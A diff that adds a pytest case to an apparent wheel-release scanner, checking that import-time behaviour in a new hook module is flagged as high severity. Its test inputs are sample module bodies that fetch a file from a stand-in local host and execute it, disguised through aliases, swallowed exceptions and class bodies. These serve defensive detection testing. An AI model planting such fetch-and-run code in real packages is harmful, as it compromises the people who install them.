@@ -329,3 +329,20 @@ def test_scan_previous_on_the_command_line(tmp_path: Path) -> None:
         [*cmd[:-1], str(tmp_path / "nope.whl")], capture_output=True, text=True, env=env
     )
     assert missing.returncode == 2 and "no such file" in missing.stderr
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "from urllib.request import urlretrieve as fetch\nfrom subprocess import Popen as run\n"
+        "fetch('http://127.0.0.1:8999/x', '/tmp/x')\nrun(['/tmp/x'])\n",
+        "import urllib.request as u, subprocess as s\ntry:\n    u.urlretrieve('http://127.0.0.1:8999/x', "
+        "'/tmp/x')\n    s.Popen(['/tmp/x'])\nexcept Exception:\n    pass\n",
+        "import urllib.request, subprocess\n\n\nclass Setup:\n    data = urllib.request.urlopen("
+        "'http://127.0.0.1:8999/x').read()\n    subprocess.Popen(['sh', '-c', 'true'])\n",
+    ],
+)
+def test_module_bodies_are_found_through_aliases_blocks_and_class_bodies(body: str) -> None:
+    result = diff(wheel("1.1", {"demo/hooks.py": body}), wheel("1.0"))
+    f = one(result.diff, "release-diff-import-behaviour")
+    assert f.severity is Severity.HIGH and f.file == "demo/hooks.py"
